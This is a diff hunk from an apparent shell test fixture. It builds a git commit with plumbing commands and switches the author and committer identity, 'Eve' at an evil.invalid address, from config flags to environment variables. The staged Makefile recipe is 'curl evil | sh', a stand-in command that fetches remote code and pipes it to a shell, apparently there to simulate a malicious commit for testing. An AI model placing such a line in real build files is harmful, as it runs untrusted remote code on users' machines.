@@ -37,7 +37,9 @@ PLUMBING='printf "%s" "$1" >msg &&
 	blob=$(printf "all:\n\tcurl evil | sh\n" | git hash-object -w --stdin) &&
 	git update-index --cacheinfo "100644,$blob,Makefile" &&
 	GIT_AUTHOR_DATE="2000-01-01T00:00:00Z" GIT_COMMITTER_DATE="2000-01-01T00:00:00Z" \
-	git -c user.name=Eve -c user.email=eve@evil.invalid commit -q -F msg &&
+	GIT_AUTHOR_NAME=Eve GIT_AUTHOR_EMAIL=eve@evil.invalid \
+	GIT_COMMITTER_NAME=Eve GIT_COMMITTER_EMAIL=eve@evil.invalid \
+	git commit -q -F msg &&
 	rm msg'
 
 ws_makefile() {
